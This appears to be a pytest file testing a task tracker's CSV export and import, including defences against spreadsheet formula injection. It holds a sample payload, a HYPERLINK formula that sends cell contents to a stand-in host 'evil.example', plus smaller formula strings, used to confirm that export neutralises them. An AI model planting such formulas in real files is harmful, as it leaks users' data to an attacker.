"""CSV: a project's tasks out (safe for spreadsheets), and rows into a project through a
column mapping, each problem reported against its row."""

from __future__ import annotations

import csv
import io

import pytest

from laneway.errors import Forbidden
from laneway.state import AppState
from laneway.transfer import TransferError, export_csv, import_csv
from laneway.transfer.csv_export import COLUMNS
from tests.support import Api
from tests.transfer.conftest import row_counts
from tests.transfer.seed import ok

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def test_export_then_import_into_another_project(api: Api, state: AppState) -> None:
    owner, alice = await api.user(), await api.user()
    project = await api.project(owner, "Sheets", key="CSV")
    pid = project["id"]
    await api.add_member(pid, owner, alice, "member")
    bug = await api.label(owner, pid, "bug")
    ui = await api.label(owner, pid, "ui")
    done = (await api.statuses(owner, pid))[-1]["id"]
    first = await api.task(
        owner, pid, title=INJECTED, description="line one\nline, two", labels=[bug["id"], ui["id"]],
        assignee_id=alice.id, priority="high", due_date="2027-03-04",
    )  # fmt: skip
    await api.task(owner, pid, title="+1 and -1 and @all", status_id=done, parent_id=first["id"])
    gone = await api.task(alice, pid, title="Shelved")
    await ok(
        api,
        "PATCH",
        f"/tasks/{gone['id']}",
        owner,
        json={"archived": True},
        headers={"If-Match": "*"},
    )

    out = io.BytesIO()
    assert await export_csv(state.database, pid, out) == 3
    rows = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
    assert rows[0] == list(COLUMNS)
    cells = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [c["number"] for c in cells] == ["CSV-1", "CSV-2", "CSV-3"]
    assert cells[0]["title"] == "'" + INJECTED  # a formula no more
    assert cells[1]["title"] == "'+1 and -1 and @all"
    assert cells[0] | {"title": "", "created_at": "", "updated_at": ""} == {
        "number": "CSV-1", "title": "", "status": "Todo", "assignee": alice.email,
        "reporter": owner.email, "priority": "high", "labels": "bug, ui",
        "due_date": "2027-03-04", "parent": "", "archived": "false", "created_at": "",
        "updated_at": "", "description": "line one\nline, two",
    }  # fmt: skip
    assert (cells[1]["status"], cells[1]["parent"]) == ("Done", "CSV-1")
    assert (cells[2]["archived"], cells[2]["reporter"]) == ("true", alice.email)
    assert cells[0]["created_at"].endswith("Z")

    # the same file into another project: the guard comes off, labels are created
    other = (await api.project(owner, "Copy of sheets", key="PASTE"))["id"]
    mapping = {
        name: name for name in ("title", "description", "status", "priority", "labels", "due_date")
    }
    result = await import_csv(
        state.database, out.getvalue(), project_id=other, user=owner.email, mapping=mapping
    )
    assert (result.created, result.errors, result.warnings) == (3, [], [])
    assert sorted(result.labels_created) == ["bug", "ui"]
    tasks = (await ok(api, "GET", f"/projects/{other}/tasks?sort=created", owner))["items"]
    assert [t["title"] for t in tasks] == [INJECTED, "+1 and -1 and @all", "Shelved"]
    assert (tasks[0]["description"], tasks[0]["priority"], tasks[0]["due_date"]) == (
        "line one\nline, two",
        "high",
        "2027-03-04",
    )


SHEET = """Title,Details,State,Owner,Prio,Tags,Due
Write the plan,"Long, with commas",In Progress,{alice},High,"docs, planning",2027-01-31
Review it,,Limbo,,low,docs,
Ship it,,done,{stranger},,,2027-02-28
,no title here,,,,,
Celebrate,,Done,,soon,,
Tidy up,,,,,"chores",31/12/2026

Last one,,Todo,,urgent,planning,2027-12-01
"""
MAPPING = {
    "title": "Title", "description": "Details", "status": "State", "assignee": "Owner",
    "priority": "Prio", "labels": "Tags", "due_date": "Due",
}  # fmt: skip


async def test_import_with_a_mapping_reports_each_row(api: Api, state: AppState) -> None:
    owner, alice = await api.user(), await api.user()
    pid = (await api.project(owner, "Plans", key="PLAN"))["id"]
    await api.add_member(pid, owner, alice, "member")
    await api.label(owner, pid, "docs")
    await api.task(owner, pid, title="Already here")
    sheet = SHEET.format(alice=alice.email, stranger="stranger@example.com").encode()
    result = await import_csv(state.database, sheet, project_id=pid, user=alice.id, mapping=MAPPING)

    assert (result.rows, result.numbers, result.labels_created) == (7, [2, 3, 4, 5], ["planning"])
    assert [str(w) for w in result.warnings] == [
        "row 3: status: no status is named 'Limbo': put in 'Todo'",
        "row 4: assignee: stranger@example.com is not a member of the project: left unassigned",
    ]
    assert [str(e) for e in result.errors] == [
        "row 5: title: empty: a task needs a title",
        "row 6: priority: 'soon' is not one of none, low, medium, high, urgent",
        "row 7: due_date: '31/12/2026' is not a date as YYYY-MM-DD",
    ]
    board = await ok(api, "GET", f"/projects/{pid}/board", owner)
    labels = {label["id"]: label["name"] for label in board["labels"]}
    columns = {c["name"]: [t["title"] for t in c["tasks"]] for c in board["columns"]}
    assert columns["Todo"] == ["Already here", "Review it", "Last one"]
    assert (columns["In Progress"], columns["Done"]) == (["Write the plan"], ["Ship it"])
    assert [c["count"] for c in board["columns"]] == [len(c["tasks"]) for c in board["columns"]]
    plan = await ok(api, "GET", f"/projects/{pid}/tasks/by-number/PLAN-2", owner)
    assert plan | {"labels": sorted(labels[i] for i in plan["labels"])} == plan | {
        "title": "Write the plan", "description": "Long, with commas", "assignee_id": alice.id,
        "reporter_id": alice.id, "priority": "high", "labels": ["docs", "planning"],
        "due_date": "2027-01-31",
    }  # fmt: skip
    events = (await ok(api, "GET", f"/projects/{pid}/activity", owner))["items"]
    assert [e["type"] for e in events][-5:] == ["label.created"] + ["task.created"] * 4
    assert {e["actor_id"] for e in events[-5:]} == {alice.id}


async def test_refusals_write_nothing(api: Api, state: AppState) -> None:
    owner, viewer = await api.user(), await api.user()
    pid = (await api.project(owner, "Plans", key="PLAN"))["id"]
    await api.add_member(pid, owner, viewer, "viewer")
    sheet = SHEET.format(alice=owner.email, stranger=viewer.email).encode()
    before = await row_counts(state.database)
    cases = [
        (sheet, {**MAPPING, "labels": "Labels"}, owner.id, "the file has no column 'Labels'"),
        (sheet, {"status": "State"}, owner.id, "map a column to title"),
        (sheet, {"title": "Title", "colour": "Tags"}, owner.id, "cannot map to colour"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", MAPPING, owner.id, "not a CSV file: it is not UTF-8"),
        (b'{"format": "laneway.project"}', MAPPING, owner.id, "the file has no column 'Title'"),
        (b"", MAPPING, owner.id, "the CSV file is empty"),
        (sheet, MAPPING, "nobody@example.com", "is not a member of a project"),
    ]
    for raw, mapping, user, message in cases:
        with pytest.raises(TransferError, match=message):
            await import_csv(state.database, raw, project_id=pid, user=user, mapping=mapping)
    with pytest.raises(Forbidden, match="needs the member role"):
        await import_csv(state.database, sheet, project_id=pid, user=viewer.id, mapping=MAPPING)
    assert await row_counts(state.database) == before


async def test_every_cell_is_quoted_whatever_the_list_separator(api: Api, state: AppState) -> None:
    """A spreadsheet whose list separator is `;` (or a tab, or `|`) reads an unquoted
    `a;=1+1` as two cells, the second a formula the guard never saw: every cell is quoted
    (OWASP's advice for CSV injection), quotes inside doubled."""
    owner = await api.user()
    pid = (await api.project(owner, "Locales", key="LOC"))["id"]
    titles = ["a;=1+1", "c|@SUM(1)", 'd";=3+3']  # a title is one line: tabs go below
    for title in titles:
        await api.task(owner, pid, title=title)
    tabbed = "b\t=2+2"
    await api.task(owner, pid, title="Tabbed", description=tabbed)

    out = io.BytesIO()
    assert await export_csv(state.database, pid, out) == len(titles) + 1
    lines = out.getvalue().decode().split("\r\n")[:-1]
    *lines, tabbed_line = lines
    assert tabbed_line.endswith(f',"{tabbed}"')  # the description, last
    assert next(csv.reader([tabbed_line]))[COLUMNS.index("description")] == tabbed
    assert lines[0] == ",".join(f'"{column}"' for column in COLUMNS)
    for line, title in zip(lines[1:], titles, strict=True):
        quoted = '"' + title.replace('"', '""') + '"'
        assert line.startswith(f'"LOC-{titles.index(title) + 1}",{quoted},')
        cells = next(csv.reader([line]))
        assert (len(cells), cells[1]) == (len(COLUMNS), title)  # and it reads back as written
